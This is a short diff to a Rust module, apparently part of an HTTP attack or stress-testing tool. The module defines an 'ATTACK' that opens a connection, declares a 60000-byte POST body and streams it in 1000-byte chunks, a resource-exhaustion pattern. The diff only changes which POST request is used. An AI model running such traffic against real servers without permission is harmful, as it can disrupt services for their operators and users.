@@ -17,7 +17,7 @@ pub(super) const ATTACK: Attack = Attack {
 
 async fn once(aim: Aim) -> Result<()> {
     let mut stream = aim.connect().await?;
-    stream.write_all(format!("{}content-length: 60000\r\n\r\n", aim.target.post()).as_bytes()).await?;
+    stream.write_all(format!("{}content-length: 60000\r\n\r\n", aim.requests.any_post()).as_bytes()).await?;
     let piece = "x".repeat(1000);
     for _ in 0..59 {
         stream.write_all(piece.as_bytes()).await?;
